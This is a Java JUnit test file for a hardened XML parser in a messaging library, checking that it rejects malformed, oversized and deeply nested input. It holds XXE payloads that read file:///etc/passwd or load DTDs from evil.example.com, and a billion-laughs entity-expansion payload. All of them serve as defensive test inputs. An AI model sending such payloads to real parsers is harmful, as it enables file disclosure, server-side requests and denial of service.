package org.cpmmss.cpm.xml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;

import org.cpmmss.cpm.groupstate.GroupState;
import org.cpmmss.cpm.imdn.ImdnNotification;
import org.cpmmss.cpm.session.SessionInfo;
import org.junit.jupiter.api.Test;

class SafeXmlTest {
    private static byte[] b(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    @Test
    void refusesExternalEntities() {
        String xxe = "<?xml version=\"1.0\"?><!DOCTYPE groupstate [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
                + "<groupstate timestamp='2012-06-13T16:39:57Z' lastfocussessionid='&xxe;' group-type='Closed'/>";
        assertThatThrownBy(() -> GroupState.parse(b(xxe))).isInstanceOf(XmlRejectedException.class)
                .hasMessageContaining("DOCTYPE");
        String external = "<!DOCTYPE imdn SYSTEM \"http://evil.example.com/x.dtd\"><imdn/>";
        assertThatThrownBy(() -> ImdnNotification.parse(b(external))).isInstanceOf(XmlRejectedException.class);
        String param = "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil.example.com/p\"> %p;]><x/>";
        assertThatThrownBy(() -> SafeXml.defaults().parse(b(param))).isInstanceOf(XmlRejectedException.class);
    }

    @Test
    void refusesDoctypeEvenInUtf16() {
        byte[] utf16 = "<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE x [<!ENTITY a \"b\">]><x>&a;</x>"
                .getBytes(StandardCharsets.UTF_16);
        assertThatThrownBy(() -> SafeXml.defaults().parse(utf16)).isInstanceOf(XmlRejectedException.class)
                .hasMessageContaining("not allowed");
    }

    @Test
    void refusesEntityExpansion() {
        StringBuilder lol = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">");
        lol.append("<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">");
        for (int i = 2; i < 10; i++) {
            lol.append("<!ENTITY lol").append(i).append(" \"");
            for (int j = 0; j < 10; j++) {
                lol.append("&lol").append(i - 1).append(';');
            }
            lol.append("\">");
        }
        lol.append("]><session><session-type>&lol9;</session-type></session>");
        assertThatThrownBy(() -> SessionInfo.parse(b(lol.toString()))).isInstanceOf(XmlRejectedException.class);
    }

    @Test
    void refusesOversizedAndDeepDocuments() throws Exception {
        byte[] big = b("<session><session-type>" + "x".repeat(SafeXml.DEFAULT_MAX_BYTES) + "</session-type></session>");
        assertThatThrownBy(() -> SessionInfo.parse(big)).isInstanceOf(XmlRejectedException.class)
                .hasMessageContaining("too large");
        String deep = "<a>".repeat(SafeXml.DEFAULT_MAX_DEPTH + 1) + "</a>".repeat(SafeXml.DEFAULT_MAX_DEPTH + 1);
        assertThatThrownBy(() -> SafeXml.defaults().parse(b(deep))).isInstanceOf(XmlRejectedException.class)
                .hasMessageContaining("deeply");
        String veryDeep = "<a>".repeat(200_000);
        assertThatThrownBy(() -> SafeXml.defaults().parse(b(veryDeep))).isInstanceOf(XmlRejectedException.class);
        String ok = "<a>".repeat(SafeXml.DEFAULT_MAX_DEPTH) + "</a>".repeat(SafeXml.DEFAULT_MAX_DEPTH);
        assertThat(new SafeXml(1024, 32).parse(b(ok)).localName()).isEqualTo("a");
        assertThatThrownBy(() -> new SafeXml(10, 32).parse(b(ok))).isInstanceOf(XmlRejectedException.class);
    }

    @Test
    void refusesMalformedXml() {
        for (String s : new String[] {"", "<", "<a>", "<a></b>", "text", "<a/><b/>", "<?xml version=\"1.0\"?>"}) {
            assertThatThrownBy(() -> SafeXml.defaults().parse(b(s))).as(s).isInstanceOf(XmlRejectedException.class);
        }
    }

    @Test
    void parsesNamespacesAndAttributes() throws Exception {
        XmlElement e = SafeXml.defaults().parse(b("<r xmlns='urn:x' a='1'><c>t</c></r>"));
        assertThat(e.namespace()).isEqualTo("urn:x");
        assertThat(e.attribute("a")).contains("1");
        assertThat(e.childText("c")).contains("t");
    }
}
